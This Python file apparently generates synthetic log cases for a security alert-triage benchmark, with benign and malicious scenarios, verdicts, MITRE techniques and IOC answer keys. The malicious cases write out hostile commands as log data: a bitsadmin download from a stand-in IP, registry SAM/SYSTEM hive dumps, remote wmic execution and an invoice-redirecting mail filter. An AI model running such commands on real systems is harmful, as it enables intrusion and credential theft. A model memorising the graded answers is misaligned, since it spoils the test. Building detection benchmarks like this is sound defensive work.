# ruff: noqa: E501
"""Rounds that people make: licences counted, a night on call, a newcomer's first day; a filter in a mailbox, a system's own tools, an image replaced."""

from datetime import datetime, timedelta

from casebook import Case, Log, iso
from upkeep import old_syslog


def script_block(case: Case, log: Log, when: datetime, host: str, user: str, text: str, *steps: str) -> None:
    """A PowerShell script block as NXLog ships it."""
    log.add(when, {"EventTime": when.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": f"{host}.lind.example", "Keywords": 0, "EventType": "VERBOSE", "SeverityValue": 1, "Severity": "DEBUG", "EventID": 4104, "SourceName": "Microsoft-Windows-PowerShell", "ProviderGuid": "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", "Version": 1, "TaskValue": 2, "OpcodeValue": 15, "RecordNumber": case.dice.randrange(10**6), "ExecutionProcessID": case.dice.randrange(900, 9000), "Channel": "Microsoft-Windows-PowerShell/Operational", "Domain": "LIND", "AccountName": user, "UserID": "S-1-5-21-101-202-303-1188", "AccountType": "User", "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": case.uuid(), "EventReceivedTime": iso(when), "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog"}, *steps)  # fmt: skip


def log_on(case: Case, log: Log, when: datetime, host: str, user: str, source: str, *steps: str) -> None:
    """A network log-on in the same shape."""
    log.add(when, {"EventTime": when.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": f"{host}.lind.example", "Keywords": -9214364837600034816, "EventType": "AUDIT_SUCCESS", "SeverityValue": 2, "Severity": "INFO", "EventID": 4624, "SourceName": "Microsoft-Windows-Security-Auditing", "RecordNumber": case.dice.randrange(10**6), "Channel": "Security", "Category": "Logon", "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "TargetUserName": user, "TargetDomainName": "LIND", "TargetLogonId": f"0x{case.hex(6)}", "LogonType": "3", "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": "-", "IpAddress": source, "IpPort": str(case.dice.randrange(49152, 65000)), "EventReceivedTime": iso(when), "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog"}, *steps)  # fmt: skip


AUDIT = (
    "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion, Publisher | ConvertTo-Csv",
    "Get-CimInstance -ClassName SoftwareLicensingProduct -Filter 'PartialProductKey is not null' | Select-Object Name, LicenseStatus",
    "Get-LocalGroupMember -Group Administrators | Select-Object Name, ObjectClass",
)  # fmt: skip
CLIENTS = tuple(f"CL-{number}" for number in range(201, 211))


def licences_are_counted() -> Case:
    """The management server asks ten machines for software, licences and administrators, as on the first of each month before."""
    case = Case("b90_powershell_licences_counted", "2025-04-01 00:00:00")
    log = case.log("nxlog-windows.json")
    for _ in range(120):
        number = case.dice.randrange(10)
        when = case.sometime(days=61, hours=3)
        log_on(case, log, when, "FS-1", f"user{number}", f"10.30.2.{20 + number}")
    for month, day in enumerate((0, 30, 61)):
        for turn, host in enumerate(CLIENTS):
            start = case.after(days=day, hours=4, minutes=3 * turn)
            steps = ("alerted",) if month == 2 else ("before",)
            log_on(case, log, start, host, "svc-sam", "10.30.0.15", *steps)
            for number, text in enumerate(AUDIT):
                script_block(case, log, start + timedelta(seconds=4 + 5 * number), host, "svc-sam", text, *steps)
    case.alert = {"title": "Discovery of software, licences and local administrators on ten machines by remote PowerShell", "severity": "high", "time": iso(case.start + timedelta(days=61, hours=4, minutes=10)), "user": "svc-sam", "source": "10.30.0.15"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The licence count's account asks the same ten machines the same three things from the management server at four in the morning of the month's first day, as in the two months before.",
        steps={"alerted": "this month's count", "before": "the same in the months before"},
        not_iocs=("svc-sam", "10.30.0.15", "CL-201"),
    )


def junos(log: Log, when: datetime, program: str, message: str, *steps: str) -> None:
    """A line of a Junos device."""
    log.add(when, old_syslog(when, "srx-1", program, message), *steps)


def night_on_call() -> Case:
    """A line fails at night, the page goes to brit, who logs in as always, takes back the afternoon's commit, and the line comes up."""
    case = Case("b91_junos_night_on_call", "2025-11-03 00:00:00")
    log, pages = case.log("srx-1.log"), case.log("pagerduty-log-entries.jsonl")
    for day in range(5):
        for user, address in (("brit", "10.50.4.8"), ("kim", "10.50.4.9")):
            start = case.after(days=day, hours=9, minutes=case.dice.randrange(200))
            junos(log, start, "sshd[5120]", f"Accepted publickey for {user} from {address} port 52110 ssh2: ED25519 SHA256:Qk{user}8aLw3")  # fmt: skip
            junos(log, start + timedelta(seconds=1), "mgd[5123]", f"UI_LOGIN_EVENT: User '{user}' login, class 'super-user' [5123], ssh-connection '{address} 52110 10.50.0.1 22', client-mode 'cli'")  # fmt: skip
            junos(log, start + timedelta(seconds=30), "mgd[5123]", f"UI_CMDLINE_READ_LINE: User '{user}', command 'show security policies hit-count '")  # fmt: skip
            junos(log, start + timedelta(minutes=4), "mgd[5123]", f"UI_LOGOUT_EVENT: User '{user}' logout")
        for _ in range(8):
            junos(log, case.after(days=day, minutes=case.dice.randrange(1400)), "RT_FLOW", f"RT_FLOW_SESSION_CLOSE: session closed TCP FIN: 10.50.3.{case.dice.randrange(20, 60)}/51200->198.51.100.{case.dice.randrange(5, 90)}/443 0x0 junos-https 192.0.2.4/51200->198.51.100.7/443 0x0 source rule out N/A N/A 6 out trust untrust 41215 12(1840) 11(9120) 3")  # fmt: skip
    noon = case.start + timedelta(days=4, hours=14, minutes=10)
    junos(
        log,
        noon,
        "mgd[6001]",
        "UI_CFG_AUDIT_SET: User 'kim' set: [security ike gateway branch-2 ike-policy] pol-1 -> pol-2",
        "~",
    )
    junos(
        log,
        noon + timedelta(seconds=40),
        "mgd[6001]",
        "UI_COMMIT: User 'kim' requested 'commit' operation (comment: none)",
        "~",
    )
    fails = case.start + timedelta(days=5, hours=2, minutes=12)
    junos(log, fails, "kmd[1480]", "KMD_VPN_DOWN_ALARM_USER: VPN branch-2 from 192.0.2.201 is down. Local-ip: 192.0.2.4, gateway name: branch-2, vpn name: branch-2", "failed")  # fmt: skip
    junos(log, fails + timedelta(seconds=2), "rpd[1432]", "RPD_BGP_NEIGHBOR_STATE_CHANGED: BGP peer 10.50.255.2 (External AS 65002) changed state from Established to Idle (event HoldTime) (instance master)", "failed")  # fmt: skip
    for minutes, kind, who in ((1, "trigger_log_entry", "Monitoring"), (1.2, "notify_log_entry", "Monitoring"), (4, "acknowledge_log_entry", "brit")):  # fmt: skip
        when = fails + timedelta(minutes=minutes)
        pages.add(when, {"id": case.hex(13).upper(), "type": kind, "summary": {"t": "Triggered through the API", "n": "Notified brit by phone", "a": "Acknowledged by brit"}[kind[0]], "created_at": iso(when), "agent": {"id": "PXPGF42", "type": "user_reference", "summary": who}, "channel": {"type": "phone" if kind[0] != "t" else "api"}, "service": {"id": "PS1", "summary": "Branch lines"}, "incident": {"id": "PT4KHLK", "summary": "[#3181] VPN branch-2 on srx-1 is down"}, "teams": []}, "paged")  # fmt: skip
    start = fails + timedelta(minutes=9)
    junos(
        log,
        start,
        "sshd[7710]",
        "Accepted publickey for brit from 10.50.4.8 port 50112 ssh2: ED25519 SHA256:Qkbrit8aLw3",
        "alerted",
    )
    junos(log, start + timedelta(seconds=1), "mgd[7714]", "UI_LOGIN_EVENT: User 'brit' login, class 'super-user' [7714], ssh-connection '10.50.4.8 50112 10.50.0.1 22', client-mode 'cli'", "alerted")  # fmt: skip
    for seconds, command in ((20, "show security ike security-associations"), (70, "show system rollback compare 1 0"), (140, "rollback 1"), (160, "commit comment back-to-pol-1")):  # fmt: skip
        junos(
            log,
            start + timedelta(seconds=seconds),
            "mgd[7714]",
            f"UI_CMDLINE_READ_LINE: User 'brit', command '{command} '",
            "alerted",
        )
    junos(
        log,
        start + timedelta(seconds=150),
        "mgd[7714]",
        "UI_LOAD_EVENT: User 'brit' is performing a 'rollback'",
        "alerted",
    )
    junos(log, start + timedelta(seconds=161), "mgd[7714]", "UI_COMMIT: User 'brit' requested 'commit' operation (comment: back-to-pol-1)", "alerted")  # fmt: skip
    junos(log, start + timedelta(seconds=200), "kmd[1480]", "KMD_VPN_UP_ALARM_USER: VPN branch-2 from 192.0.2.201 is up. Local-ip: 192.0.2.4, gateway name: branch-2, vpn name: branch-2", "back")  # fmt: skip
    junos(log, start + timedelta(seconds=212), "rpd[1432]", "RPD_BGP_NEIGHBOR_STATE_CHANGED: BGP peer 10.50.255.2 (External AS 65002) changed state from OpenConfirm to Established (event RecvKeepAlive) (instance master)", "back")  # fmt: skip
    junos(log, start + timedelta(minutes=6), "mgd[7714]", "UI_LOGOUT_EVENT: User 'brit' logout", "alerted")
    case.alert = {"title": "Firewall configuration changed outside working hours", "severity": "high", "time": iso(start + timedelta(seconds=161)), "host": "srx-1", "user": "brit"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "The line to branch 2 fails at night, the page goes to brit, who acknowledges it, logs in from the usual address with the usual key, rolls back the afternoon's commit, and the line comes up.",
        steps={"alerted": "the roll-back", "failed": "the line had failed", "paged": "brit was paged"},
        optional={"back": "the line is up again"},
        not_iocs=("brit", "10.50.4.8", "kim", "10.50.255.2"),
    )


REPOSITORIES = tuple(
    f"shop/{name}"
    for name in ("api", "web", "cart", "search", "infra", "mail", "etl", "docs", "ios", "android", "tests", "tools")
)


def bitbucket(
    case: Case, log: Log, when: datetime, user: str, address: str, repository: str, service: str, *steps: str
) -> None:
    """A request over git in Bitbucket's access log."""
    request = f"GET /scm/{repository}.git/info/refs HTTP/1.1" if service == "refs" else f"POST /scm/{repository}.git/git-upload-pack HTTP/1.1"  # fmt: skip
    log.add(when, f'{address} | https | o@{case.hex(6).upper()}x{when.hour * 60 + when.minute}x{case.dice.randrange(9999)}x{case.dice.randrange(4)} | {user} | {when.strftime("%Y-%m-%d %H:%M:%S")},{when.microsecond // 1000:03d} | "{request}" | "" "git/2.45.1" | 200 | {case.dice.randrange(200, 900)} | {case.dice.randrange(2000, 9000000)} | {"clone" if service == "clone" else service} | {case.dice.randrange(20, 4000)} | {case.hex(7)} | ', *steps)  # fmt: skip


def first_day() -> Case:
    """A newcomer clones the team's twelve repositories on the first day, as the newcomer two weeks before did."""
    case = Case("b92_bitbucket_newcomer_clones_all", "2025-08-04 00:00:00")
    log, audit = case.log("atlassian-bitbucket-access.log"), case.log("bitbucket-audit.log")
    team = {"tor": "10.41.2.31", "una": "10.41.2.32", "vidar": "10.41.2.33"}
    for day in range(15):
        for user, address in team.items():
            for _ in range(3):
                bitbucket(case, log, case.after(days=day, hours=7, minutes=case.dice.randrange(500)), user, address, case.dice.choice(REPOSITORIES), case.dice.choice(("refs", "fetch")))  # fmt: skip
    for day, user, address, step in ((0, "wenche", "10.41.2.34", "before"), (14, "yngve", "10.41.2.35", "alerted")):
        when = case.after(days=day, hours=7, minutes=10)
        for action, things in (("User created", [(user, "USER")]), ("User added to group", [(user, "USER"), ("shop-developers", "GROUP")])):  # fmt: skip
            audit.add(when, {"affectedObjects": [{"name": name, "type": kind} for name, kind in things], "auditType": {"action": action, "actionI18nKey": "bitbucket.service.audit.action." + action.lower().replace(" ", ""), "area": "USER_MANAGEMENT", "category": "Users and groups", "level": "BASE"}, "author": {"id": "2", "name": "oda", "type": "NORMAL"}, "changedValues": [], "extraAttributes": [], "method": "Browser", "node": "git-1", "source": "10.41.2.20", "system": "https://git.lind.example", "timestamp": {"epochSecond": int(when.timestamp()), "nano": 0}, "version": "1.0"}, "made" if day else "~")  # fmt: skip
        for turn, repository in enumerate(REPOSITORIES):
            then = when + timedelta(minutes=50, seconds=20 * turn)
            bitbucket(case, log, then, user, address, repository, "refs", step)
            bitbucket(case, log, then + timedelta(seconds=2), user, address, repository, "clone", step)
    start = case.start + timedelta(days=14, hours=8)
    case.alert = {"title": "One account cloned twelve repositories within five minutes", "severity": "high", "time": iso(start + timedelta(minutes=3)), "user": "yngve", "src": "10.41.2.35"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "oda makes yngve's account and puts it into the developers' group; within the hour it clones the team's twelve repositories from the team's network, just as wenche's did on her first day.",
        steps={
            "alerted": "the clones",
            "made": "the account was made that morning",
            "before": "the newcomer before did the same",
        },
        not_iocs=("yngve", "10.41.2.35", "oda", "wenche"),
    )


def zimbra(log: Log, when: datetime, name: str, address: str, request: str, message: str, *steps: str) -> None:
    """A line of Zimbra's mailbox log."""
    log.add(when, f"{when.strftime('%Y-%m-%d %H:%M:%S')},{when.microsecond // 1000:03d} INFO  [qtp1068824137-{1200 + when.minute}:https:https://mail.lind.example/service/soap/{request}] [name={name}@lind.example;mid={40 + len(name)};oip={address};ua=ZimbraWebClient - FF131 (Linux)/9.0.0_GA_4583;soapId={when.second:x}7f2a1;] {message}", *steps)  # fmt: skip


def filter_in_a_mailbox() -> Case:
    """An account comes from elsewhere with the right password, sends on what names invoices, and looks through the mail."""
    case = Case("m93_zimbra_filter_sends_invoices_on", "2025-10-13 00:00:00")
    log = case.log("mailbox.log")
    homes = {"rakel": "10.2.5.21", "sindre": "10.2.5.22", "tiril": "10.2.5.23", "ulrik": "192.0.2.91"}
    for day in range(4):
        for name, address in homes.items():
            start = case.after(days=day, hours=6, minutes=case.dice.randrange(100))
            zimbra(
                log,
                start,
                name,
                address,
                "AuthRequest",
                f"security - cmd=Auth; account={name}@lind.example; protocol=soap;",
            )
            for _ in range(5):
                request = case.dice.choice(("SearchRequest", "GetMsgRequest", "SendMsgRequest", "NoOpRequest"))
                zimbra(log, start + timedelta(minutes=case.dice.randrange(1, 400)), name, address, request, f"soap - {request} elapsed={case.dice.randrange(2, 40)}")  # fmt: skip
    zimbra(log, case.start + timedelta(days=1, hours=9), "sindre", "10.2.5.22", "ModifyFilterRulesRequest", "soap - ModifyFilterRulesRequest elapsed=9")  # fmt: skip
    start = case.start + timedelta(days=3, hours=20, minutes=31)
    zimbra(
        log,
        start,
        "tiril",
        "203.0.113.88",
        "AuthRequest",
        "security - cmd=Auth; account=tiril@lind.example; protocol=soap;",
        "in",
    )
    zimbra(log, start + timedelta(minutes=1), "tiril", "203.0.113.88", "ModifyFilterRulesRequest", "filter - Adding filter rule: if header subject contains (faktura, invoice) then redirect tiril.lind@mailbox.example, discard", "rule")  # fmt: skip
    zimbra(log, start + timedelta(minutes=1, seconds=1), "tiril", "203.0.113.88", "ModifyFilterRulesRequest", "soap - ModifyFilterRulesRequest elapsed=14", "rule")  # fmt: skip
    for turn in range(14):
        request = ("SearchRequest", "GetMsgRequest")[turn % 2]
        zimbra(log, start + timedelta(minutes=2, seconds=17 * turn), "tiril", "203.0.113.88", request, f"soap - {request} elapsed={9 + turn}", "read")  # fmt: skip
    case.alert = {"title": "Filter rule that redirects to an outside mailbox", "severity": "medium", "time": iso(start + timedelta(minutes=1)), "user": "tiril@lind.example", "host": "mail"}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "tiril's account comes in the evening from an address that nobody uses, makes a rule that sends invoices to a mailbox outside and hides them, and reads mail.",
        steps={"in": "log-in from elsewhere", "rule": "the rule", "read": "mail searched and read"},
        techniques="T1114",
        more_techniques="T1114.002 T1114.003 T1564 T1564.008 T1078 T1078.003 T1078.004 T1137 T1137.005 T1133 T1020 T1567 T1048",
        iocs=("203.0.113.88",),
        more_iocs=("tiril.lind@mailbox.example", "tiril@lind.example", "tiril"),
        not_iocs=("sindre", "rakel", "10.2.5.23", "192.0.2.91"),
    )


def snare(case: Case, log: Log, when: datetime, host: str, user: str, parent: str, command: str, *steps: str) -> None:
    """A process creation as Snare sends it, fields parted by tabs."""
    program = command.split()[0]
    number = case.dice.randrange(10**5)
    text = f"A new process has been created.    Creator Subject:   Security ID:  S-1-5-21-101-202-303-1204   Account Name:  {user}   Account Domain:  LIND   Logon ID:  0x{case.hex(5).upper()}    Target Subject:   Security ID:  S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:  0x0    Process Information:   New Process ID:  0x{case.hex(4)}   New Process Name: {program}   Token Elevation Type: %%1936   Mandatory Label:  S-1-16-8192   Creator Process ID: 0x{case.hex(3)}   Creator Process Name: {parent}   Process Command Line: {command}"  # fmt: skip
    log.add(when, f"<14>{when.strftime('%b %e %H:%M:%S')} {host} MSWinEventLog\t1\tSecurity\t{number}\t{when.strftime('%a %b %d %H:%M:%S %Y')}\t4688\tMicrosoft-Windows-Security-Auditing\tLIND\\{user}\tN/A\tSuccess Audit\t{host}\tProcess Creation\t\t{text}\t{number}", *steps)  # fmt: skip


SYSTEM = "C:\\Windows\\System32\\"


def own_tools_of_the_system() -> Case:
    """A script out of a download uses only what the system brings: a transfer, the registry's secrets, a process on the file server."""
    case = Case("m94_snare_own_tools_of_the_system", "2025-06-23 00:00:00")
    log = case.log("snare.log")
    for _ in range(130):
        number = case.dice.randrange(8)
        command = case.dice.choice(("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "C:\\Windows\\System32\\notepad.exe C:\\Users\\Public\\list.txt", "C:\\Windows\\System32\\gpupdate.exe /target:user", "C:\\Windows\\System32\\taskhostw.exe -RegisterDevice -ProtectionStateChanged"))  # fmt: skip
        when = case.start + timedelta(days=case.dice.randrange(3), hours=7, seconds=case.dice.randrange(30000))
        snare(case, log, when, f"FIN-{number + 1}", f"fin{number + 1}", "C:\\Windows\\explorer.exe", command)
    start = case.start + timedelta(days=2, hours=12, minutes=44)
    for seconds, parent, command, step in (
        (0, "C:\\Windows\\explorer.exe", f'{SYSTEM}wscript.exe "C:\\Users\\fin5\\Downloads\\Statement_0625.js"', "script"),
        (9, f"{SYSTEM}wscript.exe", f"{SYSTEM}bitsadmin.exe /transfer upd /download /priority high https://203.0.113.150/a.dat C:\\Users\\fin5\\AppData\\Local\\Temp\\a.dat", "script"),
        (31, f"{SYSTEM}wscript.exe", f"{SYSTEM}rundll32.exe C:\\Users\\fin5\\AppData\\Local\\Temp\\a.dat,Start", "script"),
        (240, f"{SYSTEM}rundll32.exe", f"{SYSTEM}nltest.exe /dclist:lind.example", "looked"),
        (260, f"{SYSTEM}rundll32.exe", f'{SYSTEM}net.exe group "Domain Admins" /domain', "looked"),
        (600, f"{SYSTEM}rundll32.exe", f"{SYSTEM}reg.exe save HKLM\\SAM C:\\Users\\fin5\\AppData\\Local\\Temp\\s.tmp", "secrets"),
        (606, f"{SYSTEM}rundll32.exe", f"{SYSTEM}reg.exe save HKLM\\SYSTEM C:\\Users\\fin5\\AppData\\Local\\Temp\\y.tmp", "secrets"),
        (1500, f"{SYSTEM}rundll32.exe", f'{SYSTEM}wbem\\wmic.exe /node:FS-1 process call create "cmd /c C:\\PerfLogs\\a.bat"', "moved"),
    ):  # fmt: skip
        snare(case, log, start + timedelta(seconds=seconds), "FIN-5", "fin5", parent, command, step)
    case.alert = {"title": "BITS transfer by a script host", "severity": "low", "time": iso(start + timedelta(seconds=9)), "host": "FIN-5", "user": "fin5"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "On FIN-5 a script from a download fetches a library and runs it; it asks for domain controllers and administrators, saves the registry's secrets and starts a process on FS-1.",
        steps={"script": "script, transfer, library", "looked": "looked around", "secrets": "registry's secrets saved", "moved": "process on the file server"},
        techniques="T1197 T1003",
        more_techniques="T1059 T1059.007 T1059.005 T1218 T1218.011 T1003.002 T1047 T1018 T1482 T1069 T1069.002 T1087 T1087.002 T1204 T1204.002 T1105 T1012 T1021 T1021.006 T1059.003 T1016 T1569 T1071 T1071.001",
        iocs=("203.0.113.150",),
        more_iocs=("fin5", "FIN-5", "https://203.0.113.150/a.dat", "C:\\Users\\fin5\\AppData\\Local\\Temp\\a.dat", "C:\\Users\\fin5\\Downloads\\Statement_0625.js", "C:\\PerfLogs\\a.bat", "FS-1", "C:\\Users\\fin5\\AppData\\Local\\Temp\\s.tmp", "C:\\Users\\fin5\\AppData\\Local\\Temp\\y.tmp", "a.dat", "Statement_0625.js", "a.bat", "s.tmp", "y.tmp"),
        not_iocs=("fin1", "FIN-1", "fin3", "FIN-3"),
    )  # fmt: skip


def harbor(
    case: Case, log: Log, when: datetime, user: str, operation: str, resource: str, kind: str, *steps: str
) -> None:
    """An entry of Harbor's audit log."""
    log.add(when, {"id": case.dice.randrange(10**6), "op_time": iso(when, 3), "operation": operation, "resource": resource, "resource_type": kind, "username": user}, *steps)  # fmt: skip


def harbor_proxy(log: Log, when: datetime, address: str, request: str, status: int, agent: str, *steps: str) -> None:
    """A line of the web server in front of it."""
    log.add(when, f'{address} - - [{when.strftime("%d/%b/%Y:%H:%M:%S")} +0000] "{request} HTTP/1.1" {status} 0 "-" "{agent}"', *steps)  # fmt: skip


def image_replaced() -> Case:
    """The build's robot pushes another image under the name of the one in use, from outside, and removes the one before."""
    case = Case("m95_harbor_image_in_use_replaced", "2025-12-01 00:00:00")
    audit, proxy = case.log("harbor-audit.jsonl"), case.log("proxy-access.log")
    agent = "docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.1.0 os/linux arch/amd64"
    for day in range(4):
        for turn in range(5):
            when = case.after(days=day, hours=8 + turn, minutes=case.dice.randrange(50))
            tag = f"1.{day}.{turn}"
            harbor_proxy(proxy, when, "10.5.2.11", "POST /v2/shop/api/blobs/uploads/", 202, agent)
            harbor_proxy(
                proxy, when + timedelta(seconds=3), "10.5.2.11", f"PUT /v2/shop/api/manifests/{tag}", 201, agent
            )
            harbor(
                case, audit, when + timedelta(seconds=3), "robot$shop+build", "create", f"shop/api:{tag}", "artifact"
            )
            for node in range(2):
                harbor_proxy(proxy, when + timedelta(minutes=3, seconds=node), f"10.5.3.{21 + node}", f"GET /v2/shop/api/manifests/{tag}", 200, "containerd/1.7.22")  # fmt: skip
                harbor(case, audit, when + timedelta(minutes=3, seconds=node), "robot$shop+pull", "pull", f"shop/api:{tag}", "artifact")  # fmt: skip
    start = case.start + timedelta(days=3, hours=22, minutes=5)
    harbor_proxy(proxy, start, "203.0.113.31", "GET /v2/_catalog", 200, "curl/8.5.0", "in")
    harbor_proxy(
        proxy,
        start + timedelta(minutes=1),
        "203.0.113.31",
        "GET /v2/shop/api/manifests/1.3.4",
        200,
        "skopeo/1.16.1",
        "in",
    )
    harbor(case, audit, start + timedelta(minutes=1), "robot$shop+build", "pull", "shop/api:1.3.4", "artifact", "in")
    harbor_proxy(
        proxy,
        start + timedelta(minutes=14),
        "203.0.113.31",
        "POST /v2/shop/api/blobs/uploads/",
        202,
        "skopeo/1.16.1",
        "put",
    )
    harbor_proxy(
        proxy,
        start + timedelta(minutes=15),
        "203.0.113.31",
        "PUT /v2/shop/api/manifests/1.3.4",
        201,
        "skopeo/1.16.1",
        "put",
    )
    harbor(
        case, audit, start + timedelta(minutes=15), "robot$shop+build", "create", "shop/api:1.3.4", "artifact", "put"
    )
    harbor_proxy(proxy, start + timedelta(minutes=16), "203.0.113.31", f"DELETE /v2/shop/api/manifests/sha256:{case.hex(64)}", 202, "skopeo/1.16.1", "gone")  # fmt: skip
    harbor(
        case,
        audit,
        start + timedelta(minutes=16),
        "robot$shop+build",
        "delete",
        "shop/api@sha256:9c1e",
        "artifact",
        "gone",
    )
    case.alert = {"title": "Tag of an image in use was overwritten", "severity": "medium", "time": iso(start + timedelta(minutes=15)), "repository": "shop/api", "tag": "1.3.4", "username": "robot$shop+build"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "The build's robot account, always used from the build machine by day, is used from outside at night: it fetches the image in use, pushes another one under the same tag and removes the one before.",
        steps={"in": "the robot from elsewhere", "put": "another image under the same tag", "gone": "the one before removed"},
        techniques="T1525",
        more_techniques="T1195 T1195.002 T1078 T1078.004 T1612 T1485 T1070 T1565 T1565.001 T1528 T1550 T1550.001 T1613 T1526 T1190 T1530 T1554 T1036.005 T1204.003",
        iocs=("203.0.113.31",),
        more_iocs=("robot$shop+build", "shop/api:1.3.4"),
        not_iocs=("10.5.2.11", "robot$shop+pull", "10.5.3.21"),
    )  # fmt: skip


CASES = (licences_are_counted, night_on_call, first_day, filter_in_a_mailbox, own_tools_of_the_system, image_replaced)
